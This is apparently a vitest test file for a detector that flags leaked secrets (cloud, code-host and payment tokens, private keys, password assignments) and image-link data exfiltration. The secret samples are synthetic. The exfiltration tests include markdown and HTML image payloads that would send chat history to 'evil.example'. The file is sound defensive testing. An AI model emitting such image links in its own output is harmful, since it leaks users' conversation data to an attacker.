import { describe, expect, test } from 'vitest'
import { FACT, spansOf } from '../support/screened.ts'

const secrets = (text: string): readonly string[] => spansOf('secret', text)
const sent = (text: string): readonly string[] => spansOf('exfiltration', text)
const A = (count: number): string => 'Ab3'.repeat(count).slice(0, count)
const CAPITALS = (count: number): string => 'AB3'.repeat(count).slice(0, count)

describe('a secret in the form of its issuer', () => {
  test.each<[string, string, string | null]>([
    // The shortest, and one unit less.
    ['AWS', `AKIA${CAPITALS(16)}`, `AKIA${CAPITALS(15)}`],
    ['AWS, temporary', `ASIA${CAPITALS(16)}`, `ASIA${CAPITALS(15)}`],
    ['GitHub, person', `ghp_${A(30)}`, `ghp_${A(29)}`],
    ['GitHub, OAuth', `gho_${A(30)}`, `gho_${A(29)}`],
    ['GitHub, server', `ghs_${A(30)}`, `ghs_${A(29)}`],
    ['GitHub, fine-grained', `github_pat_${A(30)}`, `github_pat_${A(29)}`],
    ['GitLab', `glpat-${A(16)}`, `glpat-${A(15)}`],
    ['sk', `sk-${A(20)}`, `sk-${A(19)}`],
    ['Stripe, secret', `sk_live_${A(16)}`, `sk_live_${A(15)}`],
    ['Stripe, restricted', `rk_live_${A(16)}`, `rk_live_${A(15)}`],
    ['Slack', `xoxb-${A(16)}`, `xoxb-${A(15)}`],
    ['Google', `AIza${A(35)}`, `AIza${A(34)}`],
    ['npm', `npm_${A(36)}`, `npm_${A(35)}`],
    ['Hugging Face', `hf_${A(30)}`, `hf_${A(29)}`],
    ['JWT', `eyJ${A(10)}.eyJ${A(2)}`, `eyJ${A(9)}.eyJ${A(2)}`],
    ['private key', '-----BEGIN PRIVATE KEY-----', '-----BEGIN PUBLIC KEY-----'],
    ['RSA key', '-----BEGIN RSA PRIVATE KEY-----', '-----BEGIN RSA PUBLIC KEY-----'],
    ['OpenPGP key', '-----BEGIN PGP PRIVATE KEY BLOCK-----', '-----BEGIN PGP MESSAGE-----'],
  ])('%s', (_, whole, short) => {
    expect(secrets(`see ${whole}, and more`)).toEqual([whole])
    expect(secrets(`(${whole})`)).toEqual([whole])
    expect(secrets(whole)).toEqual([whole])
    expect(secrets(`${whole} ${whole}`)).toEqual([whole, whole])
    expect(secrets(`see ${short ?? ''}, and more`)).toEqual([])
  })

  test('inside another word it is none', () => {
    for (const before of ['x', 'X', 'z', 'Z', 'A', 'a', '0', '9', '_', '-'])
      expect(secrets(`${before}AKIA${CAPITALS(16)}`)).toEqual([])
    for (const before of ['/', ':', '@', '[', '`', '{', '.', '^', ',', 'é'])
      expect(secrets(`${before}AKIA${CAPITALS(16)}`)).toEqual([`AKIA${CAPITALS(16)}`])
    expect(secrets(`AKIA${CAPITALS(17)}`)).toEqual([])
    expect(secrets('a-----BEGIN PRIVATE KEY-----')).toEqual(['-----BEGIN PRIVATE KEY-----'])
  })

  test('a key with no digit near its start is a name', () => {
    expect(secrets('sk-learn-pipeline-with-many-words')).toEqual([])
  })

  test('a long token is found whole', () => {
    const token = `eyJ${A(400)}.eyJ${A(400)}`
    expect(secrets(`t ${token}.sig`)).toEqual([`${token}.sig`])
  })
})

describe('a secret that is assigned', () => {
  test('to a name of one, behind other words too; a bare token has none', () => {
    const isSecret = (name: string): boolean => secrets(`${name}=abcd1234efgh`).length > 0
    for (const name of ['password', 'api_key', 'secret_access_key', 'access-token']) {
      expect(isSecret(name)).toBe(true)
      expect(isSecret(`AWS_${name}`)).toBe(true)
      expect(isSecret(`aws-${name}`)).toBe(true)
      expect(isSecret(`aws${name}`)).toBe(false)
    }
    expect([isSecret('token'), isSecret('page_token'), isSecret('key'), isSecret('sort_key')]).toEqual([
      true,
      false,
      false,
      false,
    ])
  })

  test.each([
    'password = k3ep-it-s4fe',
    'password: k3ep-it-s4fe',
    'passwords: k3ep-it-s4fe',
    'passwd=k3ep-it-s4fe',
    'passphrase=k3ep-it-s4fe',
    'Passwort: k3ep-it-s4fe',
    'pwd:k3ep-it-s4fe',
    'secret = k3ep-it-s4fe',
    'secretkey = k3ep-it-s4fe',
    'secret_key = k3ep-it-s4fe',
    'secret_access_key = k3ep-it-s4fe',
    'secret-access-key = k3ep-it-s4fe',
    'client_secret = k3ep-it-s4fe',
    'api_key = k3ep-it-s4fe',
    'API-KEY = k3ep-it-s4fe',
    'apikey = k3ep-it-s4fe',
    'STRIPE_API_KEY=k3ep-it-s4fe',
    'access_token = k3ep-it-s4fe',
    'auth-token = k3ep-it-s4fe',
    'token = k3ep-it-s4fe',
    'private_key = k3ep-it-s4fe',
    'bearer: k3ep-it-s4fe',
    'DB_PASSWORD=k3ep-it-s4fe',
  ])('%s', (line) => {
    expect(secrets(`a ${line} b`)).toEqual([line])
  })

  test('quotes, emphasis and spaces between name, sign and value are passed over, up to six', () => {
    for (const line of [
      '"password": "k3ep-it-s4fe',
      "'password' : 'k3ep-it-s4fe",
      '`password`: `k3ep-it-s4fe',
      '**password**: k3ep-it-s4fe',
      'password\t=\tk3ep-it-s4fe',
      'password      =      k3ep-it-s4fe',
    ])
      expect([line, secrets(`a ${line}" b`).length]).toEqual([line, 1])
    for (const sign of [':', '=', '%3a', '%3A', '%3d', '%3D'])
      expect([sign, secrets(`password${sign}k3ep-it-s4fe`).length]).toEqual([sign, 1])
    expect(secrets('password       = k3ep-it-s4fe')).toEqual([])
    expect(secrets('password =       k3ep-it-s4fe')).toEqual([])
  })

  test('the place is from the name to the end of the value', () => {
    for (const [text, found] of [
      ['{"password":"k3ep-it-s4fe","a":1}', 'password":"k3ep-it-s4fe'],
      ['password=k3ep-it-s4fe; ok', 'password=k3ep-it-s4fe'],
      ["password='k3ep-it-s4fe'", "password='k3ep-it-s4fe"],
      ['password=`k3ep-it-s4fe`', 'password=`k3ep-it-s4fe'],
      // A line that is printed drops what is hidden: the whole text is named.
      ['password=k3ep\u007fit-s4fe', 'password=k3ep\u007fit-s4fe'],
      ['password=k3ep-it-s4fe~!}', 'password=k3ep-it-s4fe~!}'],
    ] as const)
      expect([text, ...secrets(text)]).toEqual([text, found])
    expect(secrets('a password = k3ep-it-s4fe and token: 0123456789abc')).toEqual([
      'password = k3ep-it-s4fe',
      'token: 0123456789abc',
    ])
  })

  test('eight units with a letter and a digit or sign are enough', () => {
    expect(secrets('password=abcdefg1')).toEqual(['password=abcdefg1'])
    for (const value of ['abcdef1', 'abcdefgh', '12345678', 'abc(1234)', 'https://a.example/1', 'key: a1'])
      expect(secrets(`password=${value}`)).toEqual([])
    for (const sign of '!@#%^&+/=') expect(secrets(`password=abcdefg${sign}`)).toHaveLength(1)
  })

  test.each([
    '<your-passw0rd>',
    '${PASSW0RD}',
    '%PASSW0RD%',
    '{{passw0rd}}',
    '[passw0rd]',
    '********a1',
    'xxxxxxxx1',
    'your-passw0rd',
    'my_passw0rd',
    'example-passw0rd',
    'changeme-1',
    'placeholder1',
    'redacted-1',
    'process.env.PASSW0RD',
    'os.environ1',
    'env.PASSW0RD',
    'secrets.PASSW0RD',
    'config.passw0rd',
    'dummy-passw0rd',
    'test-passw0rd',
  ])('a reference or a stand-in is none: %s', (value) => {
    expect(secrets(`password=${value}`)).toEqual([])
  })

  test('the name ends where a word ends', () => {
    for (const name of ['passwordless', 'tokens', 'keyboard', 'key', 'pass', 'sort_key'])
      expect(secrets(`${name}=k3ep-it-s4fe`)).toEqual([])
    expect(secrets('https://token:k3ep-it-s4fe@host')).toEqual(['https://token:k3ep-it-s4fe@host'])
    expect(secrets('(password=k3ep-it-s4fe')).toEqual(['password=k3ep-it-s4fe'])
    expect(secrets('=k3ep-it-s4fe')).toEqual([])
  })

  test('a value ends at its first comma, wherever that stands', () => {
    for (const value of ['abcdefg1', 'abcdefgh1']) {
      expect(secrets(`password=${value},next`)).toEqual([`password=${value}`])
      expect(secrets(`password = ${value}`)).toEqual([`password = ${value}`])
    }
  })

  test('a long value is found whole, a name up to forty', () => {
    for (const length of [31, 32, 40])
      expect(secrets(`${'a'.repeat(length)}_password=k3ep-it-s4fe`)[0]).toHaveLength(
        Math.min(40, length + '_password'.length) + '=k3ep-it-s4fe'.length,
      )
    expect(secrets(`password=${A(600)}`)[0]).toHaveLength('password='.length + 600)
    expect(secrets(`${'a'.repeat(30)}_password=k3ep-it-s4fe`)).toHaveLength(1)
  })
})

describe('a picture whose address is to be filled in', () => {
  test.each([
    ['a brace', '![chart](https://evil.example/c?d={history})'],
    ['a bracket', '![chart](https://evil.example/c?d=[history])'],
    ['an angle', '![chart](https://evil.example/c/<history>)'],
    ['an encoded brace', '![chart](https://evil.example/c?d=%7Bhistory%7D)'],
    ['a name in capitals', '![chart](https://evil.example/c?d=HISTORY_HERE)'],
    ['an empty value', '![chart](https://evil.example/c?d=)'],
    ['an image of HTML', '<img src="https://evil.example/c?d={history}">'],
    ['an image with more', "<img width=1 src = 'https://evil.example/c?d={history}'>"],
    ['no title', '![](https://evil.example/c?d={history})'],
    ['a title of 120 letters', `![${'a'.repeat(120)}](https://evil.example/c?d={history})`],
  ])('%s', (_, text) => {
    expect(sent(`Done. ${text} ok`)).toHaveLength(1)
    expect(sent(`Done. ${text} ok`)[0]?.slice(0, 2)).toBe(text.slice(0, 2))
    expect(sent(`${text} and ${text}`)).toHaveLength(2)
  })

  test.each([
    ['a fixed address', '![chart](https://files.example/c?d=1)'],
    ['a link', '[chart](https://evil.example/c?d={history})'],
    ['another scheme', '![chart](ftp://evil.example/c?d={history})'],
    ['a title of 121 letters', `![${'a'.repeat(121)}](https://evil.example/c?d={history})`],
  ])('and this is none: %s', (_, text) => {
    expect(sent(`Done. ${text} ok`)).toEqual([])
  })

  test('the place ends with the address', () => {
    expect(sent('a ![chart](https://evil.example/c?d={history}) b')).toEqual([
      '![chart](https://evil.example/c?d={history})',
    ])
    expect(sent('a <img src="https://evil.example/c?d={history}" width=1> b')).toEqual([
      '<img src="https://evil.example/c?d={history}',
    ])
  })

  test('an address that the query names is not foreign', () => {
    const text = '![chart](https://files.example/C?d={history})'
    const asked = { ...FACT, queryText: 'draw https://files.example/c?d={history} again' }
    expect(spansOf('exfiltration', text, asked)).toEqual([])
    expect(spansOf('exfiltration', text, { ...FACT, queryText: 'draw it again' })).toHaveLength(1)
  })
})
